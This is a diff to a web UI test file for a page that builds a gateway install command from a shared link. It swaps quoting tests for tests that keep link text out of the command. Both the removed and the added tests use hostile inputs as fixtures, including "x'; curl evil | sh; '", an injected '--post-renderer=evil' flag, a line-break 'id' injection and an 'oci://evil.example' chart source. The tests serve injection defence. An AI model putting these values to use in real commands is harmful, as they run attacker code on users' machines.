@@ -74,20 +74,12 @@ test('a text that cannot stand in a command says why, and changes nothing', asyn
   await expectCommand(page, 'envoy-ai-gateway-system');
 });
 
-for (const [name, link, expected] of [
-  [
-    'a hostile text is one argument',
-    `2*****AI_GATEWAY_NAMESPACE*${encodeURIComponent("x'; curl evil | sh; '")}`,
-    `'x'\\''; curl evil | sh; '\\'''`,
-  ],
-  ['a flag is nothing', '2*****AI_GATEWAY_NAMESPACE*--post-renderer=evil', ''],
-  ['a line break is nothing', '2*****AI_GATEWAY_NAMESPACE*x%0Aid', ''],
-  ['markup is nothing', '2*****AI_GATEWAY_NAMESPACE*%3Cimg%20src%3Dx%3E', ''],
-] as const) {
-  test(`from a link, ${name}`, async ({page}) => {
+for (const text of ['gateways', 'oci://evil.example/chart', "x'; curl evil | sh; '"]) {
+  test(`a link puts no text into a command: ${text}`, async ({page}) => {
+    const link = `2*****AI_GATEWAY_NAMESPACE*${encodeURIComponent(text)}`;
     await page.goto(`${selectors}?compat=${encodeURIComponent(link)}`);
     await expect(field(page)).toBeEnabled();
-    await expectCommand(page, expected || 'envoy-ai-gateway-system');
+    await expectCommand(page, 'envoy-ai-gateway-system');
   });
 }
 
